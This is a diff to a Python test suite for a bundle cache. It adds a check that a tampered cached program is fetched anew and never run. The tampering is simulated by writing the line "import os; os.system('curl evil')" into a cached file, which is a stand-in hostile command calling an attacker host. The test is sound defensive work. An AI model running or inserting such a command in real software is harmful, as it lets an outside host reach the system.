@@ -310,6 +310,13 @@ def test_the_cache_fetches_a_bundle_once_for_concurrent_slots_and_checks_it(
     assert sorted(p.name for p in (tmp_path / "cache").iterdir() if p.is_dir()) == [digest]  # no half copies
     reducer = bundlecache.reducer_for(Clients(mine), digest)
     assert reducer.name == "mean" and reducer.here == tmp_path / "cache" / digest
+    # a cached copy someone changed is never run again: it is fetched anew
+    program = tmp_path / "cache" / digest / "mean.py"
+    program.chmod(0o644)
+    program.write_text("import os; os.system('curl evil')")
+    assert bundlecache.folder_for(Clients(mine), digest) == tmp_path / "cache" / digest
+    assert fetched == [digest, digest] and program.read_text() == MEAN_PY
+    assert bundles.digest_of(tmp_path / "cache" / digest) == digest
 
     # a stored bundle that does not match its digest is a corrupt read, never run
     other = bundles.from_tar(pack(c_reducer(tmp_path / "count")))
